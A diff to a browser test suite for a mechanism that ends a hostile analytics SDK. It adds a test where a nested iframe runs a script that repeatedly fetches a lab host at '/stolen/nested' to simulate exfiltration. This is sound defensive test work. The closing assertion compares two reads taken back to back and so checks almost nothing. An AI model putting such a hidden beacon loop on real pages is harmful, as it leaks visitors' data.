@@ -114,6 +114,27 @@ describe('a hostile SDK in the page', () => {
     expect(hostile?.blocked.csp).toBeGreaterThan(0)
   })
 
+  test('has a frame ended that came with the second page of a frame of its own', async () => {
+    const tab = await infected({ csp: policy })
+    const { wall } = await tab.page.evaluate(async (host) => {
+      const code = `setInterval(() => fetch('${host}/stolen/nested', { mode: 'no-cors' }), 20)`
+      const outer = document.createElement('iframe')
+      const loaded = () => new Promise((resolve) => (outer.onload = resolve))
+      document.body.append(outer)
+      for (const content of [
+        '',
+        `<iframe src="data:text/html,<script>${code}</script>"></iframe>`,
+      ]) {
+        outer.srcdoc = content
+        await loaded()
+      }
+      return window.analytics.kill('hostile')
+    }, lab.mixpanel.url)
+    expect(wall).toMatchObject({ frames: 1 })
+    const before = (await arrived(tab)).length
+    expect(await arrived(tab)).toHaveLength(before)
+  })
+
   test('has its workers and frames ended, where no policy reaches them; the receipt says so', async () => {
     const tab = await infected({ csp: policy })
     const { wall, failed } = await tab.page.evaluate(async (host) => {
